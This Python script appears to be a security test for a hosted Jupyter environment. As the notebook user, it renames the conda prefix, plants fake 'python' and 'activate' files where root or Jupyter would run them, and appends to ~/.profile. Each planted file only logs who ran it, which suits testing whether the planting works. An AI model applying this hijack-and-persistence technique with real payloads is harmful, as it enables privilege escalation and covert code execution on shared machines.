"""As the notebook user, in the host's mount namespace, once the conda prefix's mount is lost: their own tree in its place, with
payloads where root and Jupyter would look (Jupyter's python, activate) and in ~/.profile. Each payload appends
what ran it to ~/.planted-ran.log. Prints one JSON object: each step "done" or the error's name."""

import errno
import json
import os

HOME = os.path.expanduser("~")
PREFIX = HOME + "/anaconda3"
LOG = HOME + "/.planted-ran.log"
# The unit a payload ran in: the unified hierarchy's line (cgroup v2, or v1's hybrid layout).
RECORD = 'echo "ran: uid=$(id -u) what=%s args=$* cgroup=$(sed -n "s/^0:://p" /proc/self/cgroup)" >> ' + LOG + "\n"
result = {}


def attempt(name, action):
    try:
        action()
        result[name] = "done"
    except OSError as exc:
        result[name] = errno.errorcode.get(exc.errno, str(exc.errno))


def write(path, content, mode=0o755):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write(content)
    os.chmod(path, mode)


def plant():
    write(PREFIX + "/envs/JupyterSystemEnv/bin/python", "#!/bin/sh\n" + RECORD % "planted-python"
          + 'exec /opt/sagebox/anaconda3/envs/JupyterSystemEnv/bin/python "$@"\n')
    write(PREFIX + "/bin/activate", RECORD % "planted-activate" + "CONDA_DEFAULT_ENV=planted\n", 0o644)
    write(PREFIX + "/envs/python3/bin/python", "#!/bin/sh\n" + RECORD % "planted-env-python", 0o755)


attempt("rename ~/anaconda3", lambda: os.rename(PREFIX, PREFIX + ".root"))
attempt("plant a tree of their own", plant)
with open(HOME + "/.profile", "a") as handle:
    handle.write("\n" + RECORD % "planted-profile")
result["profile"] = "planted"
print(json.dumps(result))
